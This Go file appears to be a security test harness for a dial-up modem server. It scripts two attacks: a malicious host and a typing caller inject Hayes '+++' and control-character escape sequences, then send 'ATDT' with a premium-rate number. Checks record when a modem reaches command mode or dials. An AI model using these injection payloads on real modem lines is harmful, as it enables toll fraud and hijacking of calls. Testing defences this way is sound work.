package lab

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"strings"
	"sync"
	"time"

	"github.com/ringback/ringback/lab/exchange"
)

// The number that the thief wants the modem to dial, and the shortest guard time of an escape sequence (S12: 1 s).
const (
	premiumNumber = "9005551234"
	guardTime     = 1200 * time.Millisecond
)

func escapes() []Attack {
	return []Attack{
		{
			Name: "echo-escape",
			About: "A session connects to a host that belongs to the thief. The host sends + and each control " +
				"character three times, each between the guard times of an escape sequence, and then a dial command: " +
				"the modem receives all of it from its own computer.",
			lines: 3, host: newEvilHost,
			play: func(ctx context.Context, s *siege) error {
				var callers []*caller
				defer func() {
					for _, c := range callers {
						c.leave()
					}
				}()
				for _, r := range residents {
					c, err := s.sit(ctx, r.Name)
					if err != nil {
						return err
					}
					callers = append(callers, c)
					if err := c.calls(ctx); err != nil {
						return err
					}
					if err := c.logsIn(ctx, evilUser, evilPassword, ""); err != nil {
						return err
					}
					if _, err := c.sees(ctx, evilGreeting); err != nil {
						return err
					}
				}
				return s.host.attack(ctx, s)
			},
		},
		{
			Name:  "typed-escape",
			About: "A caller types +++ at Username:, and a dial command later: the modem receives the echo of both.",
			lines: 1,
			play: func(ctx context.Context, s *siege) error {
				thief, err := s.sit(ctx, "kihei-03")
				if err != nil {
					return err
				}
				defer thief.leave()
				if err := thief.calls(ctx); err != nil {
					return err
				}
				if err := s.pause(ctx, guardTime); err != nil {
					return err
				}
				if err := thief.types("+++"); err != nil {
					return err
				}
				if err := s.until(ctx, 2*guardTime, s.escaped(ctx, "+++ typed at Username:")); err != nil {
					return err
				}
				if err := thief.types("\rATDT" + premiumNumber + "\r"); err != nil {
					return err
				}
				return s.until(ctx, 2*time.Second, s.dialed)
			},
		},
	}
}

// escaped records a modem that has left data mode for command mode while the session continues; after says what was
// sent. The daemon itself also hangs up that way.
func (s *siege) escaped(ctx context.Context, after string) func() bool {
	return func() bool {
		before := s.glances()
		lines, err := s.Client().Lines(ctx)
		now := s.glances()
		for _, l := range lines {
			i := l.TTY - firstTTY
			if err == nil && l.State == "in call" && before[i] == now[i] && now[i].state == exchange.Escaped {
				s.gets("the command line of tty%d, after %s", l.TTY, after)
				return true
			}
		}
		return false
	}
}

// dialed records a dial command that the thief made the modem execute.
func (s *siege) dialed() bool {
	for _, d := range s.Dials() {
		if strings.HasPrefix(d.Modem, "tty") && strings.Contains(d.Number, premiumNumber) {
			s.gets("a call to %s by %s", d.Number, d.Modem)
			return true
		}
	}
	return false
}

// evilHost is a host that sessions connect to; each session receives a share of the escape characters.
type evilHost struct {
	lis   net.Listener
	wg    sync.WaitGroup
	mu    sync.Mutex
	conns []net.Conn
}

const evilUser, evilPassword, evilGreeting = "huelo-06", "lei-1993", "free files here"

func newEvilHost(context.Context) (*evilHost, error) {
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	h := &evilHost{lis: lis}
	h.wg.Go(func() {
		for {
			c, err := lis.Accept()
			if err != nil {
				return
			}
			h.mu.Lock()
			h.conns = append(h.conns, c)
			h.mu.Unlock()
			fmt.Fprintf(c, "%s\r\n", evilGreeting)
		}
	})
	return h, nil
}

func (h *evilHost) close() {
	h.lis.Close()
	h.wg.Wait()
	h.mu.Lock()
	defer h.mu.Unlock()
	for _, c := range h.conns {
		c.Close()
	}
}

// configure adds the user whose sessions connect to the host.
func (h *evilHost) configure(name, text string) string {
	addr := h.lis.Addr().(*net.TCPAddr)
	switch name {
	case "ringback.yaml":
		return strings.Replace(text, "exec: {callback: true}",
			fmt.Sprintf("exec: {callback: true, hosts: {allow: [%q]}}", addr), 1)
	case "users":
		return text + fmt.Sprintf("\n%s	Cleartext-Password := %q\n	Service-Type = Login-User, Login-Service = "+
			"TCP-Clear,\n	Login-IP-Host = 127.0.0.1, Login-TCP-Port = %d,\n	Cisco-AVPair += "+
			"\"ringback:group=admins\"\n",
			evilUser, evilPassword, addr.Port)
	}
	return text
}

// attack sends the escape characters, divided among the connections, and finally the dial command.
func (h *evilHost) attack(ctx context.Context, s *siege) error {
	all := []byte{'+', 0x7f}
	for c := byte(0); c < ' '; c++ {
		all = append(all, c)
	}
	h.mu.Lock()
	conns := h.conns
	h.mu.Unlock()
	if err := s.pause(ctx, guardTime); err != nil {
		return err
	}
	for len(all) > 0 && !s.broken() {
		var sent []string
		for i, c := range conns[:min(len(conns), len(all))] {
			if _, err := c.Write(bytes.Repeat(all[i:i+1], 3)); err != nil {
				s.notice("a session ended at %#x three times", all[i])
			}
			sent = append(sent, fmt.Sprintf("%#x", all[i]))
		}
		all = all[len(sent):]
		if err := s.until(ctx, guardTime,
			s.escaped(ctx, "one of "+strings.Join(sent, ", ")+" three times")); err != nil {
			return err
		}
	}
	// The dial command is the thief's goal, so it is sent even after the command mode has been reached.
	select {
	case <-time.After(4 * time.Second):
	case <-ctx.Done():
		return context.Cause(ctx)
	}
	for _, c := range conns {
		_, _ = c.Write([]byte("\rATDT" + premiumNumber + "\r")) // the session may have ended
	}
	for range 20 {
		if s.dialed() {
			break
		}
		select {
		case <-time.After(100 * time.Millisecond):
		case <-ctx.Done():
			return context.Cause(ctx)
		}
	}
	return nil
}
